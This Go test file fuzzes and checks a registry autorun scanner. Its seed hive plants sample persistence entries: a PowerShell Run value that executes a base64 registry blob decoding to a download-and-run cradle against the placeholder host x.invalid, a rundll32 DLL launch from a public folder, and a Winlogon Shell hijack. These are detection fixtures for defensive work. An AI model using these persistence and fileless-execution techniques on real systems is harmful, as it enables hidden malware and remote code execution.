package autoruns_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"strings"
	"testing"

	"github.com/runkeyhunt/runkeyhunt/tables/autoruns"
	"github.com/runkeyhunt/runkeyhunt/tables/registry"
	"github.com/runkeyhunt/runkeyhunt/tables/registry/hivefile"
	"github.com/runkeyhunt/runkeyhunt/tables/registry/hivefile/hivetest"
)

func sz(name, data string) hivetest.Val {
	return hivetest.Val{Name: name, Type: registry.RegSZ, Data: registry.EncodeUTF16(data)}
}

// seedTree is a small hive below root "ROOT" holding Run (its command
// reads a base64 payload from another value), RunOnceEx with subkeys (one
// listed twice), StartupApproved and Winlogon, under top ("Software" for a
// user hive, "Microsoft"'s parent for a SOFTWARE hive).
func seedTree(user bool) *hivetest.Node {
	payload := base64.StdEncoding.EncodeToString([]byte("IEX(iwr x.invalid)"))
	ref := `HKCU:\Software\Microsoft\Windows\CurrentVersion`
	if !user {
		ref = `HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion`
	}
	cv := &hivetest.Node{Name: "CurrentVersion", Values: []hivetest.Val{sz("Blob", payload)}, Subkeys: []*hivetest.Node{
		{Name: "Run", Values: []hivetest.Val{
			sz("Updater", `powershell -c "iex (gp `+ref+`).Blob"`),
			sz("Tray", `C:\tray.exe`),
		}},
		{Name: "RunOnceEx", RepeatFirst: 2, Subkeys: []*hivetest.Node{
			{Name: "0001", Values: []hivetest.Val{sz("1", `rundll32 C:\Users\Public\x.dll,A`)}},
			{Name: "0002", Values: []hivetest.Val{sz("", `cmd /c echo`)}},
		}},
		{Name: "Explorer", Subkeys: []*hivetest.Node{{Name: "StartupApproved", Subkeys: []*hivetest.Node{
			{Name: "Run", Values: []hivetest.Val{{Name: "Tray", Type: registry.RegBinary, Data: []byte{3, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}}}},
		}}}},
	}}
	microsoft := &hivetest.Node{Name: "Microsoft", Subkeys: []*hivetest.Node{
		{Name: "Windows", Subkeys: []*hivetest.Node{cv}},
		{Name: "Windows NT", Subkeys: []*hivetest.Node{{Name: "CurrentVersion", Subkeys: []*hivetest.Node{
			{Name: "Winlogon", Values: []hivetest.Val{sz("Shell", "explorer.exe,x")}},
		}}}},
	}}
	if user {
		return &hivetest.Node{Name: "ROOT", Subkeys: []*hivetest.Node{{Name: "Software", Subkeys: []*hivetest.Node{microsoft}}}}
	}
	return &hivetest.Node{Name: "ROOT", Subkeys: []*hivetest.Node{microsoft}}
}

// FuzzScanHive runs the autorun scanner end to end over a hive: bytes,
// hive file reader, every location (RunOnceEx subkeys included), payload
// references back into the hive. The input is the root's hbin offset and
// the cells of one hbin (hivetest.Wrap adds the rest), so it stays small.
// Rows must name keys of the hive, and no key's values come out twice.
func FuzzScanHive(f *testing.F) {
	for _, user := range []bool{true, false} {
		root, cells := hivetest.Cells(hivetest.Build(seedTree(user), ""))
		f.Add(append(binary.LittleEndian.AppendUint32(nil, root), cells...))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) < 4 {
			return
		}
		hive := hivetest.Wrap(binary.LittleEndian.Uint32(data), data[4:], "")
		h, err := hivefile.OpenReader(bytes.NewReader(hive), int64(len(hive)), "fuzz.hive")
		if err != nil {
			return
		}
		s := autoruns.Scanner{View: registry.StaticView{h}}
		rows, err := s.Scan(context.Background())
		if err != nil {
			t.Fatalf("scan: %v", err)
		}
		root := h.Info().Root
		done := map[string]bool{}
		last := ""
		for _, r := range rows {
			if !strings.HasPrefix(r.Key, root+`\`) || r.Location == "" {
				t.Fatalf("row %q (location %q) outside hive %q", r.Path, r.Location, root)
			}
			switch r.Verdict {
			case "benign", "suspicious", "malicious":
			default:
				t.Fatalf("row %q: verdict %q", r.Path, r.Verdict)
			}
			id := strings.ToLower(r.Location + "|" + r.Path)
			if id != last {
				if done[id] {
					t.Fatalf("value %q of %s read twice", r.Path, r.Location)
				}
				done[id], last = true, id
			}
		}
	})
}

// TestScanHiveSeeds: the fuzz seeds reach every path the target is for.
func TestScanHiveSeeds(t *testing.T) {
	for _, user := range []bool{true, false} {
		root, cells := hivetest.Cells(hivetest.Build(seedTree(user), ""))
		hive := hivetest.Wrap(root, cells, "")
		h, err := hivefile.OpenReader(bytes.NewReader(hive), int64(len(hive)), "seed.hive")
		if err != nil {
			t.Fatal(err)
		}
		rows, err := (&autoruns.Scanner{View: registry.StaticView{h}}).Scan(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]autoruns.Row{}
		for _, r := range rows {
			got[r.Location+" "+r.Name] = r
		}
		if len(rows) != 5 || got["run Updater"].PayloadExists != 1 || got["run Tray"].Enabled != 0 ||
			got["run_once_ex 1"].Key == "" || got["run_once_ex (Default)"].Key == "" || got["winlogon_shell Shell"].Key == "" {
			t.Errorf("user=%v: rows %v", user, got)
		}
	}
}
